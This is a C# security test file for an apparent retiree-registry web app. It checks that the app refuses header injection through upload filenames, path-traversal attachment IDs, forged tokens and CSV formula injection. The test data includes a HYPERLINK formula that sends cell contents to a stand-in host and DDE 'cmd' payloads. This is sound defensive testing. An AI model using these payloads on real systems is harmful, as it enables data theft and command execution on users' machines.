using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using Afterglow.App.Auth;
using Afterglow.App.Retirees;
using Afterglow.Tests.Infrastructure;
using Afterglow.Tests.Registry;

namespace Afterglow.Tests.Security;

/// <summary>Attacks the issue did not name: other phrasings of the same holes, other files, other paths.</summary>
public class AttackTests(AppFactory app) : AppTests(app)
{
    private static int _mobiles;
    private static string NextMobile() => $"1380014{Interlocked.Increment(ref _mobiles):D4}";

    private async Task<(HttpClient Admin, string Retiree)> RetireeAsync()
    {
        var admin = await App.AdminAsync();
        var response = await admin.PostAsJsonAsync("/api/retirees", new { name = "攻击测试", birthDate = "1940-01-01", mobile = NextMobile() });
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return (admin, (await response.JsonAsync())["id"]!.GetValue<string>());
    }

    private static MultipartFormDataContent Png(string name)
    {
        var content = new ByteArrayContent(AttachmentTests.Png);
        content.Headers.ContentType = new MediaTypeHeaderValue("image/png");
        // As RFC 5987 filename*: the server decodes it back to exactly this name, line breaks and quotes included.
        content.Headers.ContentDisposition = new ContentDispositionHeaderValue("form-data") { Name = "\"file\"", FileNameStar = name };
        return new MultipartFormDataContent { content };
    }

    [Theory]
    [InlineData("a\r\nX-Injected: yes.png")]
    [InlineData("x\"; filename*=UTF-8''evil.html")]
    [InlineData("report\u0000.png")]
    [InlineData("%0d%0aSet-Cookie: s=1.png")]
    public async Task A_file_name_cannot_add_headers_or_change_the_download_name(string name)
    {
        var (admin, retiree) = await RetireeAsync();
        var upload = await admin.PostAsync($"/api/retirees/{retiree}/attachments/", Png(name));
        Assert.Equal(HttpStatusCode.Created, upload.StatusCode);
        var id = (await upload.JsonAsync())["id"]!.GetValue<string>();
        var download = await admin.GetAsync($"/api/retirees/{retiree}/attachments/{id}");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.False(download.Headers.Contains("X-Injected"));
        Assert.False(download.Headers.Contains("Set-Cookie"));
        var disposition = download.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposition.DispositionType);
        var served = disposition.FileNameStar ?? disposition.FileName!.Trim('"');
        Assert.EndsWith(".png", served, StringComparison.Ordinal);
        Assert.DoesNotContain(served, c => char.IsControl(c) || c is '"' or ';' or '%' or '/' or '\\');
    }

    [Theory]
    [InlineData("..%2F..%2Fx")]
    [InlineData("20261122020000-")]
    [InlineData("20261122020000-0123456789abcde%2F..")]
    [InlineData("20261122020000-0123456789abcdef")]
    public async Task Attachment_ids_that_are_not_ids_reach_no_blob(string attachmentId)
    {
        var (admin, retiree) = await RetireeAsync();
        var upload = await admin.PostAsync($"/api/retirees/{retiree}/attachments/", Png("scan.png"));
        Assert.Equal(HttpStatusCode.Created, upload.StatusCode);
        var get = await admin.GetAsync($"/api/retirees/{retiree}/attachments/{attachmentId}");
        Assert.Equal(HttpStatusCode.NotFound, get.StatusCode);
        Assert.Equal("application/problem+json", get.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.DeleteAsync($"/api/retirees/{retiree}/attachments/{attachmentId}")).StatusCode);
        Assert.Single(await (await admin.GetAsync($"/api/retirees/{retiree}/attachments/")).JsonArrayAsync());
        // Another retiree's real attachment is not reached through this retiree's path either.
        var (_, other) = await RetireeAsync();
        var realId = (await upload.JsonAsync())["id"]!.GetValue<string>();
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync($"/api/retirees/{other}/attachments/{realId}")).StatusCode);
        // Walking out of the other retiree's folder into this one's, with the separators storage might accept.
        foreach (var walk in new[] { $"..%5C{retiree}%5C{realId}", $"..%2F{retiree}%2F{realId}", $"%2E%2E%5C{retiree}%5C{realId}" })
            Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync($"/api/retirees/{other}/attachments/{walk}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.DeleteAsync($"/api/retirees/{other}/attachments/{realId}")).StatusCode);
    }

    [Fact]
    public async Task A_name_given_twice_in_one_body_is_refused_not_read_two_ways()
    {
        var admin = await App.AdminAsync();
        var response = await admin.PostAsync("/api/people", SecurityClients.Json("""{"name":"甲","name":"乙","phone":"13900139555","role":"staff"}"""));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True((await response.ErrorsAsync()).ContainsKey("name"));
        Assert.DoesNotContain(await (await admin.GetAsync("/api/people")).JsonArrayAsync(), p => p!["phone"]!.GetValue<string>().EndsWith("13900139555", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_number_sent_as_text_is_refused_naming_the_field()
    {
        var (admin, retiree) = await RetireeAsync();
        var response = await admin.PostAsync($"/api/retirees/{retiree}/visits", SecurityClients.Json("""{"date":"2026-11-20","kind":"home","amount":"200"}"""));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True((await response.ErrorsAsync()).ContainsKey("amount"));
        Assert.Empty(await (await admin.GetAsync($"/api/retirees/{retiree}/visits/")).JsonArrayAsync());
    }

    [Fact]
    public async Task Changing_ones_own_password_ends_the_sessions_signed_in_before()
    {
        var (email, _) = await App.CreateAccountAsync(Roles.Admin);
        var stolen = await App.StealSessionAsync(email, AppFactory.AccountPassword);
        var mine = await App.SignInAsync(email, AppFactory.AccountPassword);
        (await mine.PutAsJsonAsync($"/api/accounts/{email}", new { password = "my-own-new-passphrase-9" })).EnsureSuccessStatusCode();

        Assert.Equal(HttpStatusCode.Unauthorized, (await App.Raw().SendAsync(stolen.Request(HttpMethod.Get, "/api/me"))).StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, (await App.Raw().SendAsync(stolen.Request(HttpMethod.Get, "/api/retirees/export"))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await App.Anonymous().PostAsJsonAsync("/api/auth/login", new { email, password = "my-own-new-passphrase-9" })).StatusCode);
    }

    [Theory]
    [InlineData("!!!%%%")]
    [InlineData("a")]
    [InlineData("Zm9v.YmFy")]
    public async Task A_made_up_anti_forgery_token_of_any_shape_is_403_not_500(string token)
    {
        var (email, _) = await App.CreateAccountAsync(Roles.Coordinator);
        var session = await App.StealSessionAsync(email, AppFactory.AccountPassword);
        var forged = new StolenSession(session.Cookie.Split(';')[0], token);
        var response = await App.Raw().SendAsync(forged.Request(HttpMethod.Post, "/api/people", """{"name":"丁","phone":"13900139556","role":"staff"}"""));
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task No_cell_of_the_registry_export_runs_as_a_formula()
    {
        var admin = await App.AdminAsync();
        var unit = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")";
        var created = await admin.PostAsJsonAsync("/api/retirees", new
        {
            name = "@SUM(1+1)*cmd", birthDate = "1940-01-01", mobile = NextMobile(), unit, address = "+1+cmd|' /C calc'!A0",
            healthNotes = "-2+3+cmd|' /C calc'!A0",
        });
        Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());
        var csv = await (await admin.GetAsync("/api/retirees/export?unit=" + Uri.EscapeDataString(unit))).Content.ReadAsStringAsync();
        var cells = Csv.Read(csv).Skip(1).SelectMany(r => r.Fields).ToList();
        Assert.NotEmpty(cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && (c[0] is '=' or '@' or '\t' or '\r'
            || (c[0] is '-' or '+' && !double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _))));
        Assert.Contains("'@SUM(1+1)*cmd", cells);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    public void Every_export_cell_starting_like_a_formula_is_made_text(string value)
    {
        // Retiree exports and broadcast answers (text from any phone: tabs and line breaks included) both write through Csv.Line.
        var cell = Csv.Read("h\r\n" + Csv.Line([value])).Last().Fields.Single();
        Assert.Equal("'" + value, cell);
    }
}
